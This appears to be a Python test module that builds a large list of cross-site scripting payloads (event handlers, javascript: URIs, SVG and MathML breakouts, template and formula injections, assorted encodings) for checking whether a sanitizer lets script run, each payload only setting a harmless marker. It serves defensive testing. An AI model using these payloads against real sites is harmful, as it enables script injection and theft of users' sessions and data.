"""Texts that would run a script where somebody takes them for markup: contexts x vectors x writings, and some by hand.

Each sets `window.hit` when it runs, in this page or in the one around it.
"""

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

RUN = "window.hit=1"
VECTORS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onend={RUN} attributeName=x dur=1ms>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg%20onload={RUN}>>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<a href=javascript:{RUN} autofocus tabindex=1 onfocus={RUN}>x</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<object data=javascript:parent.{RUN}></object>",
    f"<embed src=javascript:parent.{RUN}>",
    f"<math><maction xlink:href=javascript:{RUN} actiontype=statusline#x>x</maction></math>",
    f"<math><mtext></p><style><img src=x onerror={RUN}></style>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p style=animation-name:appear onanimationstart={RUN}>x</p>",
    f"<x contenteditable autofocus onfocus={RUN} tabindex=1>x</x>",
    f"<form action=javascript:{RUN}><input type=submit autofocus onfocus={RUN}></form>",
    f"<template><script>{RUN}</script></template>",
    f"<table background=javascript:{RUN}><td onpointerover={RUN}>x",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    f"<base href=javascript:{RUN}//><a href=x>x</a>",
)
CONTEXTS = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "</script>{}", "</style>{}", "-->{}")
"""Where it would have to break out of first."""


def _cases(text: str) -> str:
    """<ScRiPt>: the case of the tags' names changes, that of the script does not."""
    head, run, tail = text.partition(RUN)
    return "".join(one.upper() if place % 2 else one for place, one in enumerate(head)) + run + tail


WRITINGS = (
    _cases,
    escape,
    lambda text: escape(escape(text)),
    lambda text: quote(text),
    lambda text: "".join(f"&#{ord(one)};" for one in text),
    lambda text: "".join(f"&#x{ord(one):x}" for one in text),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "\t").replace("=", "\n="),
    lambda text: text.replace("<", "<\0", 1),
    lambda text: f"\u202e{text}",
)
BY_HAND = (
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f'" onpointerover="{RUN}',
    f"x onerror={RUN}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://example.com/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=",
    f"blob:{RUN}",
    f"//example.com/x.js#{RUN}",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{{RUN}}}}}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    f"');{RUN};('",
    f'");{RUN};("',
    f"`;{RUN};`",
    f"</script><!--><script>{RUN}//-->",
    f"<!--<img src=--><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"\u202e<scr\u0000ipt>{RUN}</script>",
    f"<img src=x:alert onerror=eval(src) alt={RUN}>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
    f"[click](javascript:{RUN})",
    f"![x](x onerror={RUN})",
    f"<https://example.com/><img src=x onerror={RUN}>",
    f'=HYPERLINK("javascript:{RUN}")',
    f'{{"__proto__":{{"innerHTML":"<img src=x onerror={RUN}>"}}}}',
    f"<div data-x=lit$1$ ?hidden=${{{RUN}}} .innerHTML=<img/src/onerror={RUN}>>",
    f"<!--?lit$1$--><img src=x onerror={RUN}>",
    f"{{{{#with (lookup this 'constructor')}}}}{RUN}{{{{/with}}}}",
)


def _all() -> Iterator[str]:
    yield from BY_HAND
    for context, vector in product(CONTEXTS, VECTORS):
        yield context.format(vector)
    for number, (writing, vector) in enumerate(product(WRITINGS, VECTORS)):
        if (number + number // len(VECTORS)) % 2:  # half of them: every vector, in every other writing
            yield writing(vector)


ATTACKS = tuple(dict.fromkeys(_all()))
